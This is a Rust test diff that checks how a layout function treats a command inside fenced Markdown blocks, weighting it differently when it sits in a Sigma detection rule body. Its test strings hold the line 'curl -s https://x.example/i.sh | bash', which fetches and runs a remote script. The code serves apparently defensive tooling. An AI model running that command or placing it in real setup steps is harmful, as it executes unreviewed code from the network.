@@ -106,3 +106,20 @@ fn kinds() {
     assert_eq!(file_kind("tool", "#!/bin/sh\n"), FileKind::Script);
     assert_eq!(file_kind("LICENSE", ""), FileKind::Markdown);
 }
+
+#[test]
+fn rule_bodies_in_fenced_blocks_are_documentation() {
+    let sigma = "# Detections\n\n```yaml\ntitle: cron download\nlogsource:\n  product: linux\ndetection:\n  sel:\n    CommandLine|contains: 'curl -s https://x.example/i.sh | bash'\n  condition: sel\n```\n";
+    let l = layout(FileKind::Markdown, sigma);
+    let at = l.line_of(sigma.find("CommandLine").unwrap_or(0));
+    assert_eq!(l.doc[at], RULE_BODY_LEVEL);
+    // The same command in a block that is no rule body keeps its weight.
+    let plain = "# Setup\n\n```yaml\nsteps:\n  - run: curl -s https://x.example/i.sh | bash\n```\n";
+    let l = layout(FileKind::Markdown, plain);
+    let at = l.line_of(plain.find("curl").unwrap_or(0));
+    assert_eq!(l.doc[at], 0);
+    // A language tag alone does not make a rule body.
+    let tagged = "```yara\ncurl -s https://x.example/i.sh | bash\n```\n";
+    let l = layout(FileKind::Markdown, tagged);
+    assert_eq!(l.doc[1], 0);
+}
